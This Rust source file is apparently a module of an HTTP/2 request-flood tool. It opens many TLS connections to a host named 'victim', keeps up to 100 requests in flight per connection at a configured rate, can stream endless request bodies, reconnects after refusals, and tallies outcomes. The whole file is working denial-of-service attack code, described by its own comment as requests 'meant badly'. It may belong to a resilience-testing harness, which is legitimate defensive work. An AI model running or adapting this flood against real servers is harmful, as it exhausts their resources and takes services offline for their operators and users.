//! Requests that are well formed and meant badly.

use std::convert::Infallible;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use futures_util::stream;
use http::Request;
use http_body::Frame;
use http_body_util::combinators::BoxBody;
use http_body_util::{BodyExt as _, Empty, Full, StreamBody};
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls::ClientConfig;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{Instant, MissedTickBehavior, interval, sleep, timeout_at};

use super::Front;
use super::flood::REOPEN;
use crate::Error;

type Body = BoxBody<Bytes, Infallible>;

/// One endless body's piece.
const PIECE: usize = 16 * 1024;
/// Requests in flight on one connection.
const IN_FLIGHT: usize = 100;

/// The same request again and again.
#[derive(Debug)]
pub(super) struct Requests {
    pub(super) config: Arc<ClientConfig>,
    pub(super) method: &'static str,
    pub(super) path: &'static str,
    pub(super) headers: &'static [(&'static str, &'static str)],
    pub(super) content: Content,
}

/// What a request carries.
#[derive(Debug)]
pub(super) enum Content {
    Nothing,
    Whole(Bytes),
    /// As much as the victim takes.
    Endless,
}

impl Requests {
    fn request(&self) -> Result<Request<Body>, http::Error> {
        let mut request = Request::builder().method(self.method).uri(format!("https://victim{}", self.path));
        for (name, value) in self.headers {
            request = request.header(*name, *value);
        }
        request.body(match &self.content {
            Content::Nothing => Empty::new().boxed(),
            Content::Whole(bytes) => Full::new(bytes.clone()).boxed(),
            Content::Endless => {
                let piece = Bytes::from(vec![b'x'; PIECE]);
                StreamBody::new(stream::repeat_with(move || Ok(Frame::data(piece.clone())))).boxed()
            }
        })
    }
}

pub(super) async fn run(front: &Arc<Front>, requests: Requests) -> Result<(), Error> {
    let requests = Arc::new(requests);
    let mut lines = JoinSet::new();
    for _ in 0..front.connections {
        lines.spawn(line(Arc::clone(front), Arc::clone(&requests)));
    }
    while let Some(ended) = lines.join_next().await {
        ended??;
    }
    Ok(())
}

async fn line(front: Arc<Front>, requests: Arc<Requests>) -> Result<(), Error> {
    while Instant::now() < front.end {
        match timeout_at(front.end, front.target.tls(&requests.config)).await {
            Ok(Ok(stream)) => {
                front.tally.opened.add(1);
                let (sender, connection) = http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
                let connection = tokio::spawn(connection);
                let closed = send(&front, &requests, sender).await?;
                connection.abort();
                if closed {
                    front.tally.closed.add(1);
                }
            }
            Ok(Err(_)) => front.tally.refused.add(1),
            Err(_) => break,
        }
        sleep(REOPEN).await;
    }
    Ok(())
}

/// Until the victim closes the connection (true), or time is up.
async fn send(front: &Arc<Front>, requests: &Requests, sender: http2::SendRequest<Body>) -> Result<bool, Error> {
    let places = Arc::new(Semaphore::new(IN_FLIGHT));
    let period = Duration::from_secs(1) * front.connections / front.rate;
    let mut due = interval(period);
    due.set_missed_tick_behavior(MissedTickBehavior::Burst);
    while timeout_at(front.end, due.tick()).await.is_ok() {
        let Ok(Ok(place)) = timeout_at(front.end, Arc::clone(&places).acquire_owned()).await else { break };
        if sender.is_closed() {
            return Ok(true);
        }
        front.tally.units.add(1);
        let (mut sender, request, front) = (sender.clone(), requests.request()?, Arc::clone(front));
        tokio::spawn(async move {
            let _place = place;
            let exchange = async {
                let response = sender.send_request(request).await?;
                front.tally.answers.add(1);
                response.into_body().collect().await.map(drop)
            };
            // However it ends, it was one more request for the victim.
            let _ = timeout_at(front.end, exchange).await;
        });
    }
    Ok(false)
}
